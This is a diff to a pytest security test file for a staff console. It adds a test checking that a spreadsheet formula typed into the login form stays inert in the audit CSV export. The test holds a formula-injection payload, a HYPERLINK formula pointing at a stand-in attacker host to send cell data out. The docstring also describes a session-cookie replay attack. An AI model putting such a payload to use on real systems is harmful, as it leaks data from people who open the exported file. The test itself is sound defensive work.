@@ -1,5 +1,5 @@
-"""Issue 13, findings 3, 13 and 14: console sessions end on the server; logins tell nothing by their timing;
-weak passwords are refused.
+"""Issue 13, findings 3, 12, 13 and 14: console sessions end on the server; a formula typed at the login form
+stays inert in the audit CSV; logins tell nothing by their timing; weak passwords are refused.
 
 The attack of finding 3: keep a copy of the session cookie, log out (or change the password), and open a
 person page with the copy. The console's cookie is signed, not stored, so before this change the copy still
@@ -7,6 +7,8 @@ worked."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import pytest
@@ -17,8 +19,9 @@ from sqlalchemy.orm import Session
 
 from core.db.models.staff import ConsoleSession, User
 from core.domain.roles import Role
-from core.services import staff
+from core.services import audit_query, staff
 from core.services.audit import Actor
+from core.services.audit_query import AuditFilter
 from tests.conftest import real_now
 from tests.console.conftest import PASSWORD, USERS, Seed, login
 
@@ -171,3 +174,17 @@ def test_weak_passwords_are_refused_on_the_password_page(
         assert why in refused.get_data(as_text=True)
     with console.test_client() as client:  # the old password still works: nothing changed
         assert login(client, "SESSPW1").status_code == 302
+
+
+def test_a_formula_typed_as_staff_id_is_inert_in_the_audit_csv(
+    console: Flask, console_db: tuple[Engine, Engine, Seed]
+) -> None:
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    with console.test_client() as client:
+        assert login(client, attack, "whatever it is").status_code == 401
+    with Session(console_db[1]) as s, s.begin():
+        exported = audit_query.export_csv(s, AuditFilter(action="login_failed"), Actor("test"))
+    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + attack in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
